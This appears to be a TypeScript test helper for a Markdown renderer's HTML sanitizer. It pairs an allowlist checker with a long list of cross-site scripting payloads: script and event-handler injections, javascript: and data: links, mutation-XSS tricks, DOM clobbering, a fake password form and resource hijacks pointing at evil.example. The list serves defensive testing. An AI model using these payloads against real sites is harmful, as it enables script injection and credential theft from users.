import { safeLink, safeMedia } from '../markdown/safe-address.ts'

const ALLOWED_TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p br hr blockquote pre code div span strong em del a img video ul ol li input table thead tbody tr th td'.split(
    ' ',
  ),
)
const ALLOWED_ATTRIBUTES = new Set(
  'href title src alt loading controls preload aria-label class start align type checked disabled target rel referrerpolicy'.split(
    ' ',
  ),
)

/** What is wrong with what is about to enter the page; empty when nothing in it can act. */
export function faults(root: ParentNode): string[] {
  const found: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase()
    if (!ALLOWED_TAGS.has(tag)) found.push(`<${tag}>`)
    for (const { name, value } of element.attributes) {
      if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`${tag}[${name}]`)
      if (name === 'href' && safeLink(value) === undefined) found.push(`href ${value}`)
      if (name === 'src' && safeMedia(value) === undefined) found.push(`src ${value}`)
      if (name === 'class' && !/^(kw-(math|diagram|table|task)|language-\S+)$/.test(value)) found.push(`class ${value}`)
    }
    if (tag === 'input' && element.getAttribute('type') !== 'checkbox') found.push('input')
  }
  return found
}

/** Texts that try to run something, to load something, or to look like a part of the page. */
export const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="position:fixed;inset:0">',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";body{display:none}</style>',
  '<form action="https://evil.example"><input name=password><button>登录</button></form>',
  '<a href="javascript:alert(1)">点</a>',
  '<a href="java\tscript:alert(1)">点</a>',
  '<a href="vbscript:msgbox(1)">点</a>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">假页面</div>',
  '<div id="root" data-x="1" class="ant-modal">覆盖</div>',
  '<video src="javascript:alert(1)" onloadstart="alert(1)"><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<p><![CDATA[<script>alert(1)</script>]]></p>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<a id=location href="https://x">dom clobber</a><form name=document><input name=body></form>',
  '[点](javascript:alert(1))',
  '[点](JaVaScRiPt:alert(1))',
  '[点](javascript&colon;alert(1))',
  '[点](&#106;avascript:alert(1))',
  '[点](data:text/html;base64,PHNjcmlwdD4=)',
  '[点](vbscript:x)',
  '[点](file:///etc/passwd)',
  '[点](blob:https://x/1)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '![" onerror="alert(1)](x.png)',
  '![x](x.png "\\" onerror=\\"alert(1)")',
  '![x](x.png"onerror="alert(1))',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "t\\" onclick=\\"alert(1)")',
  '```"><img/src=x/onerror=alert(1)>\nx\n```',
  '```js" onload="alert(1)\nx\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '$</span><img src=x onerror=alert(1)>$',
  '$$\n\\href{javascript:alert(1)}{x}</div><script>alert(1)</script>\n$$',
  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->B\nclick A "javascript:alert(1)"\n```',
  '```mermaid\ngraph TD\nA["&lt;img src=x onerror=alert(1)&gt;"]-->B["#lt;img src=x onerror=alert(1)#gt;"]\n```',
  '```mermaid\nsequenceDiagram\n甲->>乙: &#60;img src=x onerror=alert(1)>\nNote over 甲: <svg onload=alert(1)>\n```',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u0000<script\u0000>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
]
